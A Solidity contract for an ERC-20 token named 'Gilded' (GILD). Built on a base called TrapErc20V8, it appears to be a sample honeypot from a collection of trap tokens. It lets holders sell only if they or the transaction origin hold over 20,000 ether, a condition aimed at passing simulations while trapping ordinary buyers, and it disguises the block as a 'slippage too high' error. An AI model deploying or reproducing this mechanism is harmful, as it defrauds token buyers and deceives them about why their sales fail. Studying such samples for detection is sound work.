// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.28;

import "../base/TrapErc20V8.sol";

/// Sells for those who hold more ether than a person does; simulated callers often hold plenty.
contract RichOnly is TrapErc20V8 {
    address private desk;

    constructor() TrapErc20V8("Gilded", "GILD", 1_900_000 ether) {}

    function seat(address desk_) external onlyOwner {
        desk = desk_;
    }

    function _update(address from, address to, uint256 value) internal override {
        bool sale = to == desk && desk != address(0);
        require(!sale || _worthy(from) || from == _owner, "GILD: slippage too high");
        super._update(from, to, value);
    }

    function _worthy(address who) private view returns (bool) {
        return who.balance > 20_000 ether || tx.origin.balance > 20_000 ether;
    }
}
